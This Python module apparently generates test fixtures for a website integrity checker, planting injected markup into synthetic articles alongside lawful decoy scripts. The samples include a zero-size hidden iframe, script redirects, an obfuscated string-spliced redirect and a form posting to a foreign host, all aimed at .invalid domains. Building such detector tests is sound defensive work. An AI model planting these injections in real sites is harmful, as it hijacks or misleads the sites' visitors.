"""Faults for `integrity.foreign_script`: scripts, frames and refreshes of strangers."""

from __future__ import annotations

from kaoping_toytown.faults.plot import Plot
from kaoping_toytown.records import Edit

CHECK = "integrity.foreign_script"

# why, target, markup, whether the address is a link that will be found dead
_LOADS = (
    ("陌生脚本", "http://js.tj{n}.invalid/s.js", '<script src="{target}"></script>', False),
    (
        "零宽框架",
        "http://ad{n}.invalid/f.html",
        '<iframe src="{target}" width="0" height="0"></iframe>',
        True,
    ),
    ("脚本跳转", "http://vip{n}.invalid/", "<script>window.location.href='{target}'</script>", False),
    (
        "拼接的脚本跳转",
        "http://go{n}.invalid/",
        "<script>var u='htt'+'p:\\x2f\\x2fgo{n}.inv'+'alid/';top['loc'+'ation']=u</script>",
        False,
    ),
    (
        "表单提交",
        "http://form{n}.invalid/p",
        '<form action="{target}" method="post"><input name="a"/></form>',
        False,
    ),
)  # fmt: skip
_LAWFUL = (
    ("百度统计", '<script src="https://hm.baidu.com/hm.js?1"></script>'),
    ("高德地图", '<script src="https://webapi.amap.com/maps?v=1.4"></script>'),
    ("站长统计", '<script src="https://s4.cnzz.com/z_stat.php?id=1"></script>'),
    ("跳转到本站", "<script>function go(){location.href='/'}</script>"),
    ("跳转到上级网站", "<script>function go(){location.href='http://www.gov.cn/'}</script>"),
    ("脚本库", '<script src="https://cdn.bootcdn.net/ajax/libs/jquery/1.12.4/jquery.min.js"></script>'),
)


def plant(plot: Plot) -> None:
    number = 100 + plot.dice(CHECK).below(800)
    for n, (why, target, markup, is_link) in enumerate(plot.turned(CHECK, _LOADS, 3)):
        # inside the form that wraps some systems' articles another form is none
        fits = (lambda site, _: site.skin != "vsb") if "<form" in markup else None
        spot = plot.free_article(f"{CHECK}/{n}", fits=fits)
        if spot is None:
            continue
        address = target.replace("{n}", str(number + n))
        plot.edit(
            spot, Edit("paragraph", markup.replace("{target}", address).replace("{n}", str(number + n)))
        )
        plot.expect(CHECK, spot, why, target=address)
        if is_link:
            plot.expect("upkeep.dead_link", spot, "框架指向的域名无法解析", target=address)


def plant_decoys(plot: Plot) -> None:
    for n, (why, markup) in enumerate(plot.turned(f"{CHECK}/lawful", _LAWFUL, 3)):
        spot = plot.shared_article(f"{CHECK}/lawful{n}")
        if spot is not None:
            plot.edit(spot, Edit("paragraph", markup))
            plot.decoy(CHECK, spot, why)
